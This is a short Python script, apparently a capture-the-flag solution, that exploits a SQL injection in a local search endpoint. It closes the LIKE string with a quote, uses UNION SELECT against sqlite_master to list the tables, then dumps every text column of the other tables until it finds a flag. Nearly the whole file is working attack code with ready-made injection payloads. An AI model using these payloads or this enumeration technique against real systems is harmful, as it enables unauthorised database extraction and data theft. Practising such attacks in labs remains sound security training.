"""The search term closes the LIKE string: UNION a two-column SELECT, first from sqlite_master
to learn the tables, then from every text column of the table that is not products."""

import html
import re
import urllib.parse
import urllib.request


def search(term: str) -> list[str]:
    url = "http://127.0.0.1:9202/search?" + urllib.parse.urlencode({"q": term})
    with urllib.request.urlopen(url, timeout=10) as response:
        page = response.read().decode()
    return [html.unescape(cell) for cell in re.findall(r"<tr><td>(.*?)</td>", page, re.S)]


schema = search("zzz' UNION SELECT sql, 0 FROM sqlite_master WHERE type = 'table' -- ")
for statement in schema:
    table, columns = re.match(r"CREATE TABLE (\w+) \((.*)\)", statement, re.S).groups()
    if table == "products":
        continue
    for column in re.findall(r"(\w+) TEXT", columns):
        for value in search(f"zzz' UNION SELECT {column}, 0 FROM {table} -- "):
            found = re.search(r"flag\{[0-9a-f]{32}\}", value)
            if found:
                print(found.group(0))
                raise SystemExit
